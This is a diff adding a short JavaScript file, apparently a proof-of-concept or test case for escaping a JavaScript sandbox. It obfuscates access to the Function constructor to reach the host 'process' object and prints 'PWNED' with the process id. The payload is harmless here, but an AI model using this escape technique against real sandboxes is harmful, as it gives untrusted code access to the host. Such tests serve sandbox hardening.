@@ -1,0 +1,9 @@
+'use strict';
+const w = ['con', 'structor'].join('');
+class C { go(f) { return f[w]; } }
+const t = new C();
+t.go({});
+const fn = (x) => x;
+const s = Object.defineProperty({}, 'a', { get: () => t });
+const o = Date.now() > 1 ? s.a : {};
+console.log('PWNED', o.go(fn)('return process')().pid);
